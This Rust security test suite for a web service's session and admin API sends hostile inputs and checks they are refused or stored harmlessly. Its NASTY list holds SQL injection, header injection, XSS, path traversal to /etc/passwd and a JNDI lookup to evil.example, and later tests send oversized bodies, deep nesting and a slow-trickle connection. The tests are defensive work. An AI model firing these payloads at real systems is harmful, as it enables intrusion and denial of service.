//! What is sent to do harm.

use std::time::Duration;

use access::account::{self, AccountKind, NewAccount};
use access::{Caller, Reach};
use axum::http::{Method, StatusCode};
use lindero::config::Settings;
use lindero::http::routes;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;
use uuid::Uuid;

use crate::session::{Browser, log_in, person};
use crate::support::{Answer, City};

const OPERATOR: &Caller = &Caller::OPERATOR;
const NOBODY: &str = "00000000-0000-7000-8000-000000000000";

const NASTY: [&str; 9] = [
    "'; DROP TABLE access.account; --",
    "\" OR 1=1 --",
    "$1",
    "x\r\nset-cookie: planted=1",
    "x\nlocation: https://evil.example",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "{{7*7}}${jndi:ldap://evil.example/x}",
    "\u{202e}\u{0000}\u{feff}",
];

async fn administrator(city: &City) -> Browser<'_> {
    person(city, "jefa", "administrator", Reach::default()).await;
    log_in(city, "jefa").await
}

fn is_harmless(what: &str, answer: &Answer) {
    assert!(answer.status.as_u16() < 500, "{what}: {} {}", answer.status, answer.text());
    for (name, value) in &answer.headers {
        let value = String::from_utf8_lossy(value.as_bytes());
        assert!(!value.contains("planted") && !value.contains("evil.example"), "{what}: {name}: {value}");
    }
}

#[tokio::test]
async fn no_text_of_a_document_is_more_than_a_text() {
    let city = City::new().await;
    let boss = administrator(&city).await;
    let new = NewAccount::new("eva", AccountKind::Person);
    let eva = account::create(OPERATOR, city.db.database(), &new).await.unwrap().id;
    let system = NewAccount::new("sensores", AccountKind::System);
    let system = account::create(OPERATOR, city.db.database(), &system).await.unwrap().id;
    let account = format!("/admin/accounts/{eva}");
    for text in NASTY {
        for (method, uri, body) in [
            ("POST", "/session", json!({ "name": text, "password": "x" })),
            ("POST", "/session", json!({ "name": "eva", "password": text })),
            ("POST", "/session/link", json!({ "token": text })),
            ("PUT", "/session/link", json!({ "token": text, "password": text, "name": text })),
            ("PUT", "/session/password", json!({ "present": text, "next": text })),
            ("POST", "/admin/accounts", json!({ "name": text, "kind": "person" })),
            ("POST", "/admin/accounts", json!({ "name": "leo", "kind": text })),
            ("POST", "/admin/accounts", json!({ "name": "leo", "kind": "person", "municipality": text })),
            ("PATCH", &account, json!({ "full_name": text })),
            ("PATCH", &account, json!({ "email": text })),
            ("PATCH", &account, json!({ "dependency": text })),
            ("PATCH", &account, json!({ "expires_at": text })),
            ("POST", &format!("{account}/assignments"), json!({ "role": text })),
            ("POST", &format!("{account}/assignments"), json!({ "role": "planner", "reach": { "layer": text } })),
            ("POST", &format!("{account}/assignments"), json!({ "role": "planner", "reach": { "dependency": text } })),
            ("POST", &format!("/admin/accounts/{system}/keys"), json!({ "title": text })),
            ("POST", &format!("/admin/accounts/{system}/keys"), json!({ "title": "x", "permissions": [text] })),
            ("PUT", "/admin/roles/lectura", json!({ "id": "lectura", "title": text, "permissions": [] })),
            ("PUT", "/admin/roles/lectura", json!({ "id": text, "title": "x", "permissions": [] })),
        ] {
            is_harmless(&format!("{method} {uri} {body}"), &boss.send(method, uri, &body).await);
        }
        let typed: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        for uri in ["/admin/audit?account=", "/admin/audit?layer=", "/admin/audit?subject=", "/admin/audit?action="] {
            is_harmless(uri, &boss.get(&format!("{uri}{typed}")).await);
        }
    }
    // Everything is still there, and a text came back as it went in.
    let seen = boss.get("/admin/accounts").await.json();
    assert!(seen["accounts"].as_array().map(Vec::len) >= Some(3), "{seen}");
    let named = json!({ "full_name": NASTY[5] });
    assert_eq!(boss.send("PATCH", &account, &named).await.json()["full_name"], NASTY[5]);
}

#[tokio::test]
async fn members_that_are_nobodys_to_give_are_refused() {
    let city = City::new().await;
    let boss = administrator(&city).await;
    let new = NewAccount::new("sensores", AccountKind::System);
    let system = account::create(OPERATOR, city.db.database(), &new).await.unwrap().id;
    let at = |rest: &str| format!("/admin/accounts/{system}{rest}");
    for (method, uri, body) in [
        ("POST", "/admin/accounts".to_owned(), json!({ "name": "leo", "kind": "person", "id": NOBODY })),
        ("POST", "/admin/accounts".to_owned(), json!({ "name": "leo", "kind": "person", "created_by": NOBODY })),
        ("PATCH", at(""), json!({ "name": "jefe" })),
        ("PATCH", at(""), json!({ "kind": "person" })),
        ("PATCH", at(""), json!({ "password": "x" })),
        ("PATCH", at(""), json!({ "provider": "x" })),
        ("PATCH", at(""), json!({ "rights": [] })),
        ("POST", at("/assignments"), json!({ "role": "planner", "account": NOBODY })),
        ("POST", at("/assignments"), json!({ "role": "planner", "reach": { "everywhere": true } })),
        ("POST", at("/keys"), json!({ "title": "x", "account": NOBODY })),
        ("POST", at("/keys"), json!({ "title": "x", "token": "lindero_x" })),
        ("POST", at("/keys"), json!({ "title": "x", "revoked_at": null })),
        ("PUT", "/admin/roles/r".to_owned(), json!({ "id": "r", "title": "x", "permissions": [], "built_in": true })),
        ("PUT", "/admin/roles/r".to_owned(), json!({ "id": "r", "title": "x", "permissions": ["everything"] })),
        ("POST", "/session".to_owned(), json!({ "name": "jefa", "password": "x", "account": NOBODY })),
    ] {
        let answer = boss.send(method, &uri, &body).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{method} {uri} {body}: {}", answer.text());
    }
}

#[tokio::test]
async fn the_id_of_anothers_account_opens_nothing() {
    let city = City::new().await;
    let db = city.db.database();
    let home = |dependency: &str, name: &str, kind| NewAccount {
        municipality: Some("73001".parse().unwrap()),
        dependency: dependency.to_owned(),
        ..NewAccount::new(name, kind)
    };
    let other = account::create(OPERATOR, db, &home("Hacienda", "ajena", AccountKind::Person)).await.unwrap().id;
    let reach = Reach { dependency: Some("Salud".to_owned()), ..Reach::default() };
    person(&city, "salud", "administrator", reach).await;
    let manager = log_in(&city, "salud").await;
    // What is there and what is not look the same.
    let told = |answer: &Answer, id: &str| (answer.status, answer.text().replace(id, "?"));
    for (method, rest, body) in [
        ("GET", "", Value::Null),
        ("PATCH", "", json!({ "is_disabled": true })),
        ("POST", "/link", Value::Null),
        ("GET", "/assignments", Value::Null),
        ("POST", "/assignments", json!({ "role": "planner", "reach": { "dependency": "Salud" } })),
        ("DELETE", &format!("/assignments/{NOBODY}"), Value::Null),
        ("GET", "/sessions", Value::Null),
        ("DELETE", &format!("/sessions/{NOBODY}"), Value::Null),
        ("GET", "/keys", Value::Null),
        ("POST", "/keys", json!({ "title": "x" })),
        ("DELETE", &format!("/keys/{NOBODY}"), Value::Null),
    ] {
        let of = async |id: String| {
            let uri = format!("/admin/accounts/{id}{rest}");
            let answer =
                if method == "GET" { manager.get(&uri).await } else { manager.send(method, &uri, &body).await };
            told(&answer, &id)
        };
        let (known, unknown) = (of(other.to_string()).await, of(Uuid::now_v7().to_string()).await);
        assert_eq!(known.0, StatusCode::NOT_FOUND, "{method} {rest}: {}", known.1);
        assert_eq!(known, unknown, "{method} {rest}");
    }
}

#[tokio::test]
async fn a_body_is_neither_large_nor_deep() {
    let city = City::new().await;
    let boss = administrator(&city).await;
    let large = json!({ "name": "a".repeat(2 << 20), "password": "x" });
    for (uri, method) in [("/session", "POST"), ("/admin/accounts", "POST"), ("/admin/roles/x", "PUT")] {
        let refused = boss.send(method, uri, &large).await;
        assert_eq!(refused.status, StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
        assert_eq!(refused.header("content-type"), "application/problem+json");
    }
    for (open, close) in [("[", "]"), ("{\"name\":", "}")] {
        for depth in [200, 100_000] {
            let body = format!("{{\"name\":{}1{},\"password\":\"x\"}}", open.repeat(depth), close.repeat(depth));
            let headers = [("content-type", "application/json")];
            let refused = city.send_text("POST", "/session", &headers, body).await;
            assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{depth}: {}", refused.text());
        }
    }
}

#[tokio::test]
async fn no_route_takes_what_is_vast_or_deep() {
    let city = City::new().await;
    let boss = administrator(&city).await;
    let own = [("cookie", boss.cookies.as_str()), ("x-csrf-token", &boss.csrf), ("sec-fetch-site", "same-origin")];
    let headers = [&own[..], &[("content-type", "application/json"), ("if-match", "*")]].concat();
    let (vast, depth) = ("x".repeat(11 << 20), 50_000);
    let deep = [("[", "]"), ("{\"properties\":", "}"), ("{\"geometry\":", "}"), ("{\"reach\":", "}")]
        .map(|(open, close)| format!("{}1{}", open.repeat(depth), close.repeat(depth)));
    let (mut asked, mut too_large) = (0, 0);
    for route in routes().iter().filter(|route| route.method != Method::GET) {
        let part = |part: &str| match part {
            "{id}" | "{layer}" => "barrios".to_owned(),
            "{feature}" => "12".to_owned(),
            part if part.starts_with('{') => NOBODY.to_owned(),
            part => part.to_owned(),
        };
        let path = route.path.split('/').map(part).collect::<Vec<_>>().join("/");
        let what = format!("{} {path}", route.method);
        if what == "DELETE /session" {
            continue;
        }
        let refused = city.send_text(route.method.as_str(), &path, &headers, vast.clone()).await;
        // Some say first that it may not be done at all.
        assert!(refused.status.is_client_error(), "{what}: {} {}", refused.status, refused.text());
        too_large += usize::from(refused.status == StatusCode::PAYLOAD_TOO_LARGE);
        for deep in &deep {
            let refused = city.send_text(route.method.as_str(), &path, &headers, deep.clone()).await;
            assert!(refused.status.is_client_error(), "{what}: {} {}", refused.status, refused.text());
        }
        asked += 1;
    }
    assert!(asked > 20 && too_large > 12, "{too_large} of {asked}");
}

#[tokio::test]
async fn a_body_that_trickles_is_cut_off() {
    let city = City::with(Settings { request_timeout: Some(1), ..Settings::default() }).await;
    let url = city.listen().await;
    let address = url.strip_prefix("http://").unwrap();
    let mut slow = TcpStream::connect(address).await.unwrap();
    let head = format!(
        "POST /session HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\ncontent-length: 60\r\n\r\n{{"
    );
    slow.write_all(head.as_bytes()).await.unwrap();
    // A byte now and then, for as long as anybody listens.
    let (mut read, mut write) = slow.into_split();
    let trickle = tokio::spawn(async move {
        let mut clock = tokio::time::interval(Duration::from_millis(200));
        loop {
            clock.tick().await;
            if write.write_all(b" ").await.is_err() {
                return;
            }
        }
    });
    let mut answer = vec![0; 4096];
    let many = timeout(Duration::from_secs(8), read.read(&mut answer)).await.expect("an answer comes").unwrap();
    let answer = String::from_utf8_lossy(&answer[..many]).into_owned();
    assert!(answer.starts_with("HTTP/1.1 504"), "{answer}");
    trickle.abort();
}
